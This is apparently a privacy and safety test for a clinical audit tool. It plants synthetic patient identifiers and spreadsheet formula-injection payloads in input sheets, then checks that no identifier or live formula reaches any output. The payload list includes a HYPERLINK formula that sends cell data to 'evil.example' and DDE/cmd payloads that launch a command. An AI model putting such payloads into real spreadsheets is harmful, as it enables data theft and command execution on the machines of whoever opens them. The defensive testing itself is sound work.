"""The generator test: identifiers written every way a tester tried (tests/privacy/identifiers.py)
are planted in letters, comments, unmapped columns, the round label, the sheet name and the file
name, with spreadsheet-formula payloads beside them. The audit then goes through the CLI and the
services (import with extraction, report, slides, charts, extract, delete) and EVERY output is
searched: the store file and its -wal, the Excel report, the slides, every CSV, the chart JSON,
stdout, stderr and the log. Zero identifiers found; zero live formulas in any CSV or workbook."""
from __future__ import annotations

import contextlib
import csv
import html
import importlib.util
import io
import logging
import re
import sys
import zipfile
from pathlib import Path

import openpyxl
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from audit_app import privacy
from audit_app.cli import main

_here = Path(__file__).parent
for _name in ("identifiers",):
    _spec = importlib.util.spec_from_file_location(f"privacy_{_name}", _here / f"{_name}.py")
    _mod = importlib.util.module_from_spec(_spec)
    sys.modules[f"privacy_{_name}"] = _mod
    _spec.loader.exec_module(_mod)
ids = sys.modules["privacy_identifiers"]
# printable payloads (a workbook cell cannot hold control characters at all)
formula_payloads = st.builds(lambda head, body: head + body,
                             st.sampled_from(["=", "+", "-", "@", "＝", " =", "\t="]),
                             st.sampled_from(['HYPERLINK("http://evil.example/?d="&A1,"x")', 'DDE("cmd";"/C calc";"x")',
                                              "SUM(1+1)*cmd|' /C calc'!A0", "1+1", "A1"]))

DRUG_LINE = "Discharge medication:\nOxycodone 5mg PO 4-hourly PRN for pain, 5 days' supply (20 tablets). GP to review.\n"
HEADER = ["Audit ID", "Discharge date", "Opioid prescribed?", "Weaning plan?", "Comments", "Letter text",
          "Notes", "Who", "Column J", "Contact", "Unit"]


def _one_line(text: str) -> str:
    return " ".join(text.split())


@st.composite
def audits(draw):
    """A small audit sheet with identifiers everywhere, and the label / sheet / file names."""
    n = draw(st.integers(2, 4))
    planted: list = []
    rows = []
    for i in range(n):
        letter, items, _ = draw(ids.letters_with(n=3))
        comment = draw(ids.identifiers())
        note = draw(ids.identifiers())
        forename, surname = draw(st.sampled_from(ids.FORENAMES)), draw(st.sampled_from(ids.SURNAMES))
        dob = f"{draw(st.integers(1, 28)):02d}/{draw(st.integers(1, 12)):02d}/{draw(st.integers(1930, 1990))}"
        prefix = draw(st.sampled_from(["07700 9", "0161 496 ", "+44 7700 9", "020 7946 "]))
        phone = prefix + str(draw(st.integers(10000, 99999)))[:11 - sum(c.isdigit() for c in prefix.replace("+44", "0"))]
        unit = f"{draw(st.integers(1_000_000, 9_999_999))}"
        payload = draw(formula_payloads)
        planted += items + [comment, note]
        planted.append(ids.Planted(f"{forename} {surname}", ((0, len(forename) + 1 + len(surname)),), "patient_name"))
        for kind, value in (("date_of_birth", dob), ("phone", phone), ("hospital_number", unit)):
            planted.append(ids.Planted(value, ((0, len(value)),), kind))
        rows.append([f"{payload}{i}", f"{1 + i:02d}/03/2024", "Yes", "no", f"{comment.text} {payload}",
                     letter + "\n" + DRUG_LINE, f"{note.text}; {surname} prefers liquids", f"{forename} {surname}",
                     dob, phone, unit])
    label_id = draw(ids.identifiers())
    label = _one_line(f"Round 1 {label_id.text}")[:120]
    planted.append(ids.Planted(label, tuple((a + len("Round 1 "), b + len("Round 1 ")) for a, b in label_id.secret
                                            if b + len("Round 1 ") <= len(label)), label_id.kind))
    nhs = draw(ids.valid_nhs_digits())
    surname = draw(st.sampled_from(["Kowalczyk", "Whitfield", "Wiśniewski"]))
    sheet = f"Mrs {surname} {nhs}"[:31]
    planted.append(ids.Planted(sheet, ((4, len(sheet)),), "sheet"))
    filename = f"Mr_{surname}_{nhs}"
    as_xlsx = draw(st.booleans())
    return rows, planted, label, sheet, filename, as_xlsx


def _normalise_digits(text: str) -> str:
    """Digits with whatever separators an identifier may carry between them taken out."""
    return re.sub(r"(?<=\d)[\s.\-/\u2010-\u2015\u2212\u00ad\u200b-\u200d\u2060\ufeff_]+(?=\d)", "", text)


def _needles(planted) -> list[tuple[str, str]]:
    """(how to search, what) for every planted identifier."""
    out = []
    for p in planted:
        for value in p.values():
            value = value.strip()
            digits = "".join(c for c in value if c.isdigit())
            words = [w for w in re.findall(r"[^\W\d_]{3,}", value) if w not in ids.TITLES and w.lower() not in (
                "mrs", "miss", "name", "patient", "full", "surname", "enw", "nhs", "dob", "birth", "date", "round")]
            if len(digits) >= 7:
                out.append(("digits", digits))
            if p.kind == "date_of_birth":  # '3 March 1970': the date as written ('March' alone is no secret)
                out.append(("text", value))
                continue
            for w in words:
                out.append(("word", w))
    return out


def _search(outputs: dict[str, str], needles) -> list[tuple[str, str]]:
    found = []
    for where, text in outputs.items():
        flat = _normalise_digits(text)
        lower = text.casefold()
        for how, what in needles:
            if how == "digits" and what in flat:
                found.append((where, what))
            elif how == "text" and what.casefold() in lower:
                found.append((where, what))
            elif how == "word" and re.search(rf"(?<![^\W\d_]){re.escape(what.casefold())}(?![^\W\d_])", lower):
                found.append((where, what))
    return found


def _zip_text(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return "\n".join(html.unescape(zf.read(n).decode("utf-8", "replace")) for n in zf.namelist())


def _live_formulas_xlsx(data: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c.coordinate for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "f" or privacy.is_formula_like(c.value)]


def _live_formulas_csv(text: str) -> list:
    return [c for row in csv.reader(io.StringIO(text)) for c in row if privacy.is_formula_like(c)]


def _files_of_store(db: Path) -> str:
    return "\n".join(p.read_bytes().decode("utf-8", "ignore") for p in sorted(db.parent.glob(db.name + "*"))
                     if p.is_file())


@settings(max_examples=4, deadline=None, phases=[Phase.generate],
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.large_base_example, HealthCheck.data_too_large,
                                 HealthCheck.function_scoped_fixture])
@given(audits())
def test_no_planted_identifier_reaches_any_output(tmp_path_factory, monkeypatch, audit):
    rows, planted, label, sheet, filename, as_xlsx = audit
    tmp = tmp_path_factory.mktemp("audit")
    db = tmp / "store.db"
    url = f"sqlite:///{db}"
    if as_xlsx:
        wb = openpyxl.Workbook()
        ws = wb.active
        ws.title = re.sub(r"[\[\]:*?/\\]", " ", sheet)
        ws.append(HEADER)
        for r in rows:
            ws.append(r)
        src = tmp / f"{filename}.xlsx"
        wb.save(src)
    else:
        src = tmp / f"{filename}.csv"
        with src.open("w", encoding="utf-8", newline="") as fh:
            csv.writer(fh).writerows([HEADER, *rows])

    outputs: dict[str, str] = {}
    log = io.StringIO()
    handler = logging.StreamHandler(log)
    logging.getLogger().addHandler(handler)
    old_level = logging.getLogger().level
    logging.getLogger().setLevel(logging.INFO)

    def cli(name: str, *argv: str) -> int:
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = main(list(argv))
        outputs[f"stdout {name}"] = out.getvalue()
        outputs[f"stderr {name}"] = err.getvalue()
        return code

    try:
        assert cli("import preview", "--db", url, "import", str(src), "--trust", "Trust P", "--round", label) == 0
        assert cli("import json", "--db", url, "import", str(src), "--trust", "Trust P", "--round", label, "--json") == 0
        code = cli("import", "--db", url, "import", str(src), "--trust", "Trust P", "--round", label, "--accept")
        assert code == 0, outputs["stderr import"]
        outputs["store while open"] = _files_of_store(db)
        report = tmp / "report.xlsx"
        assert cli("score", "--db", url, "score", "--trust", "Trust P", "--round", label, "--out", str(report),
                   "--no-charts") == 0, outputs["stderr score"]
        data = report.read_bytes()
        outputs["excel report"] = _zip_text(data)
        assert _live_formulas_xlsx(data) == []

        from audit_app import services
        from audit_app.services import reports as report_service
        from audit_app.ui import figures as ui_figures
        from audit_app.store import Store

        figures: list[str] = []

        def no_png(fig):  # record the figure (titles, axes, hover text); no renderer in tests
            figures.append(fig.to_json())
            raise services.ServiceError("no chart renderer in this test")

        monkeypatch.setattr(report_service, "figure_png", no_png)
        store = Store(url)
        try:
            access = services.single_user()
            (trust,) = store.list_trusts()
            (rnd,) = store.list_rounds(trust.id)
            outputs["slides"] = _zip_text(services.round_slides(services.TrustScope.check(store, access, trust.id), rnd.id))
            view = services.chart(services.TrustScope.check(store, access, trust.id), "OD-04", grain="round")
            figures.append(ui_figures.chart_figure(view).to_json())
            chart_csv = privacy.frame_to_csv(view.data)
            outputs["charts csv"] = chart_csv
            assert _live_formulas_csv(chart_csv) == []
            for name, table in (("rounds", services.rounds_table(services.TrustScope.check(store, access, trust.id))),
                                ("letters", services.letters_table(services.TrustScope.check(store, access, trust.id), rnd.id))):
                text = table.to_csv(index=False, lineterminator="\r\n")  # what a page's CSV download gives
                outputs[f"{name} table"] = text
                assert _live_formulas_csv(text) == [], name
            outputs["chart json"] = "\n".join(figures)
            outputs["deleted log"] = repr(store.deleted_rounds(trust.id))
        finally:
            store.close()
        for suffix in (".csv", ".xlsx", ".jsonl"):
            out = tmp / f"extract{suffix}"
            argv = ["extract", str(src), "--out", str(out), "--column", "Letter text", "--id-column", "Audit ID"]
            if as_xlsx:
                argv += ["--sheet", ws.title]
            assert cli(f"extract{suffix}", *argv) == 0, outputs[f"stderr extract{suffix}"]
            if suffix == ".xlsx":
                outputs["extract xlsx"] = _zip_text(out.read_bytes())
                assert _live_formulas_xlsx(out.read_bytes()) == []
            else:
                outputs[f"extract{suffix}"] = out.read_text(encoding="utf-8")
                if suffix == ".csv":
                    assert _live_formulas_csv(outputs["extract.csv"]) == []
        store = Store(url)
        try:
            (trust,) = store.list_trusts()
            (rnd,) = store.list_rounds(trust.id)
            assert store.delete_round(rnd.id, user="tester", reason=f"wrong file {label}") is True
            outputs["deleted log"] += repr(store.deleted_rounds(trust.id))
        finally:
            store.close()
        outputs["store after delete"] = _files_of_store(db)
    finally:
        logging.getLogger().removeHandler(handler)
        logging.getLogger().setLevel(old_level)
    outputs["log"] = log.getvalue()

    found = _search(outputs, _needles(planted))
    assert found == [], found
